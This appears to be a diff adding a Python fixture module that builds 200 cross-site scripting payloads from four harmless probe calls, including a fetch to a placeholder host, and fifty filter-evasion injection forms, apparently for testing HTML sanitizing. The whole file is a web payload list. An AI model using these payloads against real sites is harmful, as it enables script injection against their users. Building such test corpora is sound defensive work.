@@ -1,0 +1,61 @@
+"""200 texts that run as a script, or fetch something, where a page writes them as they are. Made from the ways there are."""
+
+from __future__ import annotations
+
+from itertools import product
+
+_CALLS = ("alert(1)", "window.xss=1", "fetch('https://outside.example/')", "document.title='xss'")
+_FORMS = (
+    "<script>{}</script>",
+    "</script><script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "<img src=x onerror={}>",
+    '"><img src=x onerror="{}">',
+    "'><img src=x onerror='{}'>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<math><mtext><script>{}</script></mtext></math>",
+    "<body onload={}>",
+    '" onmouseover="{}" x="',
+    "' onfocus='{}' autofocus='",
+    '" autofocus onfocus="{}',
+    "javascript:{}",
+    "JaVaScRiPt:{}",
+    "&#106;avascript:{}",
+    "java\tscript:{}",
+    "data:text/html,<script>{}</script>",
+    "<a href='javascript:{}'>here</a>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<iframe src=javascript:{}>",
+    "<form action=javascript:{}><input type=submit>",
+    "<input autofocus onfocus={}>",
+    "<details open ontoggle={}>",
+    "<video><source onerror={}></video>",
+    "<object data='javascript:{}'>",
+    "<embed src='javascript:{}'>",
+    "<base href='javascript:{}//'>",
+    "<link rel=stylesheet href='data:text/css,*{{}}' onload={}>",
+    "<style>@import 'https://outside.example/x.css';</style>{}",
+    "<style>*{{background:url(https://outside.example/)}}</style>{}",
+    "<img src='https://outside.example/x.png'>{}",
+    "<meta http-equiv=refresh content='0;url=https://outside.example/'>{}",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<!--><script>{}</script>-->",
+    "<![CDATA[<script>{}</script>]]>",
+    "]]><script>{}</script>",
+    "{{{{constructor.constructor('{}')()}}}}",
+    "${{{}}}",
+    "{{% print({}) %}}",
+    "<%= {} %>",
+    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+    "%3Cscript%3E{}%3C/script%3E",
+    "＜script＞{}＜/script＞",
+    "<x hx-on:load='{}'>",
+    "<x hx-get='https://outside.example/' hx-trigger=load>{}",
+    "<textarea></textarea><script>{}</script>",
+    "<title></title><script>{}</script>",
+    "</textarea></title></div><script>{}</script>",
+)
+PAYLOADS = tuple(form.format(call) for call, form in product(_CALLS, _FORMS))
+assert len(PAYLOADS) == len(set(PAYLOADS)) == 200
